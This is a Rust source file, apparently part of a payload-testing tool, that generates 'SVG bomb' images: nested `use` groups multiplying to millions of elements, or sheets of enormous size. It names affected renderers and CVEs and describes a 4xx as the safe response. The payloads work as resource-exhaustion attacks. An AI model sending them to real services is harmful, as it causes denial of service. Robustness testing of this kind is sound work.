//! A small SVG that draws very much, or on a very large sheet.

use super::sides::{chosen, height, width};
use crate::payload::pieces::once;
use crate::payload::{About, Body, Family, Form, Group, Parameter, Takes, Turn, Values};

/// The family.
pub(super) const FAMILY: &Family = &Family {
    name: "svg-bomb",
    group: Group::Images,
    about: About {
        summary: "A small SVG of groups that use groups that use groups, or of a huge size.",
        provokes: "Renderers of logos, avatars, diagrams and e-mail: each level of `use` multiplies the elements, which \
                   are copied into a tree before anything is drawn; no entity is needed, so that XML parsers with \
                   entities switched off let it pass. The other kind asks for a bitmap of its width × height.",
        seen: "CVE-2026-31899 (CairoSVG), CVE-2019-20446 (librsvg), linebender/resvg issue 186, weisJ/jsvg issue 95, \
               sammycage/lunasvg issue 171, instructure/canvas-lms issue 2325.",
        becomes: "100,000 elements are 1.7 kB on the wire and 219 MiB in resvg; a sheet of 13,000 × 13,000 is 204 bytes and \
                  1.3 GiB.",
        safe: "4xx, from a limit on elements after `use` is resolved and on width × height; or no SVG at all.",
    },
    parameters: &[
        Parameter { name: "kind", about: "what is large", takes: Takes::Word(&["use", "size"]) },
        Parameter {
            name: "depth",
            about: "levels of groups; for `use`",
            takes: Takes::Count { least: 1, most: 10_000, default: 5 },
        },
        Parameter {
            name: "copies",
            about: "how often each group uses the one before; for `use`",
            takes: Takes::Count { least: 1, most: 1000, default: 10 },
        },
        width(1 << 30, 100),
        height(1 << 30, 100),
    ],
    form: Form::Body(make),
};

fn make(values: &Values, _: &Turn) -> Body {
    let (width, height) = chosen(values);
    let (depth, copies) = match values.text("kind") {
        "use" => (values.number("depth"), values.number("copies")),
        _ => (0, 0),
    };
    let (head, tail) = (head(width, height), tail(depth));
    let groups = depth * group(1, copies).len() as u64;
    let size = (head.len() + tail.len()) as u64 + groups;
    let groups = (1..=depth).flat_map(move |level| once(group(level, copies)));
    Body::new("image/svg+xml", size, once(head).chain(groups).chain(once(tail)))
}

fn head(width: u32, height: u32) -> String {
    format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" \
         width=\"{width}\" height=\"{height}\">\n<defs>\n<rect id=\"g00000\" width=\"9\" height=\"9\"/>\n"
    )
}

/// A group that uses the one before so often. All have the same length.
fn group(level: u64, copies: u64) -> String {
    let uses = format!("<use xlink:href=\"#g{:05}\"/>", level - 1).repeat(copies as usize);
    format!("<g id=\"g{level:05}\">{uses}</g>\n")
}

fn tail(depth: u64) -> String {
    format!("</defs>\n<use xlink:href=\"#g{depth:05}\"/>\n</svg>\n")
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use crate::payload::{Choice, Value};

    fn text(kind: &str, depth: u64, copies: u64) -> String {
        let choice = Choice::of(FAMILY).with("kind", Value::Text(kind.to_owned()));
        let choice = choice.with("depth", Value::Number(depth)).with("copies", Value::Number(copies));
        let body = choice.body(&Turn { index: 0, unique: 0, key: [0; 32] }).unwrap();
        let size = body.size;
        let bytes: Vec<u8> = body.chunks.flatten().collect();
        assert_eq!(bytes.len() as u64, size);
        String::from_utf8(bytes).unwrap()
    }

    /// How many elements are drawn: what an element uses, as often as it does.
    fn drawn(text: &str) -> u64 {
        let document = roxmltree::Document::parse(text).unwrap();
        let uses = |node: roxmltree::Node<'_, '_>| {
            node.attribute(("http://www.w3.org/1999/xlink", "href")).unwrap()[1..].to_owned()
        };
        let mut count = BTreeMap::from([("g00000".to_owned(), 1)]);
        for group in document.descendants().filter(|node| node.has_tag_name("g")) {
            let drawn = group.children().map(|used| count[&uses(used)]).sum();
            count.insert(group.attribute("id").unwrap().to_owned(), drawn);
        }
        count[&uses(document.root_element().last_element_child().unwrap())]
    }

    #[test]
    fn under_two_kilobytes_draw_a_million_rectangles() {
        let text = text("use", 6, 10);
        assert!(text.len() < 2100, "{}", text.len());
        assert_eq!(drawn(&text), 1_000_000);
    }

    #[test]
    fn the_largest_tree_and_the_large_sheet_are_well_formed() {
        assert_eq!(drawn(&text("use", 10_000, 1)), 1);
        assert_eq!(drawn(&text("size", 10, 10)), 1);
    }
}
